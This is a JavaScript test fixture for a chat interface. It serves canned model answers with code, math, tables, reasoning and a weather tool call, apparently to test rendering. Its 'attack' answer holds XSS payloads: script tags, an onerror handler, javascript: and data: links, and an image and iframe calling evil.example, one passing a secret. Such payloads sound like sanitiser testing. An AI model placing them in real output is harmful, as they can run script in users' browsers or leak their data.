// What the fake says: by the first of these words in the question.
const code = `Here is a small program that counts words:

\`\`\`python
from collections import Counter


def count(text: str) -> Counter:
    """The words of a text, and how often each is there."""
    return Counter(text.lower().split())


print(count("to be or not to be").most_common(2))  # [('to', 2), ('be', 2)]
\`\`\`

It prints the **two** most common ones. For large files, read \`line by line\`:

\`\`\`cpp
#include <string>
std::string line;
while (std::getline(in, line)) Count(line);  // one line in memory at a time
\`\`\`
`;

const math = `The area under a bell curve is known, although it has no simple antiderivative:

$$
\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx = \\sqrt{\\pi}
$$

Square it, and change to polar coordinates: with \\(r^2 = x^2 + y^2\\) the area element is $r\\,dr\\,d\\theta$, so that

\\[ I^2 = \\int_0^{2\\pi} \\int_0^\\infty e^{-r^2} r\\,dr\\,d\\theta = \\pi. \\]

It costs $5 and $10 to print this.
`;

const table = `| Device | Memory | Speed |
|---|--:|:-:|
| kitchen | 16 GB | 24 GB/s |
| desk | 40 GB | 262 GB/s |
| laptop | 16 GB | 92 GB/s |

- [x] measured
- [ ] compared

> All figures are of this morning.
`;

const attack = `<script>window.attacked = 1</script>

<img src=x onerror="window.attacked = 1">

[click me](javascript:window.attacked=1) and [me](data:text/html,<script>window.attacked=1</script>)

![a picture](https://evil.example/collect?secret=1)

<iframe src="https://evil.example"></iframe><style>body{display:none}</style>

[a page](https://example.org/page) and $\\href{javascript:window.attacked=1}{x}$
`;

const usual = `A home has more computing power than its owners think. Three things decide **how fast** a model answers:

1. *Memory bandwidth*: each token reads all weights once.
2. *Memory*: what does not fit must be split over devices.
3. *The network*: a hop costs its round trip for every token.

The first one counts most, so a small fast card beats a large slow one.
`;

const thought = 'The question is about speed at home. I should name what limits it: bandwidth first, then memory, then the network. A short list is best.';

const call = { name: 'get_weather', arguments: '{"city": "Berlin", "days": 2}' };

const answers = {
  everything: { reasoning: thought, text: [usual, code, math, table].join('\n') },
  code: { text: code },
  math: { text: math },
  table: { text: table },
  attack: { text: attack },
  think: { reasoning: thought, text: usual },
  weather: { reasoning: 'I need the weather, so I call the tool.', text: '', call },
  long: { text: Array.from({ length: 120 }, (_, i) => `## Part ${i + 1}\n\n${usual}`).join('\n') },
  cut: { text: usual, ends: 'cut' },
  lost: { text: usual.slice(0, 120), ends: 'lost' },
};

// The answer to a question.
export function answerTo(question) {
  const word = Object.keys(answers).find((one) => question.toLowerCase().includes(one));
  return answers[word] ?? { text: usual };
}

// A text as a model's tokens might cut it.
export function tokensOf(text) {
  return text.match(/\s?[\p{L}\p{N}_]{1,6}|\s?[^\s\p{L}\p{N}]|\s+/gu) ?? [];
}
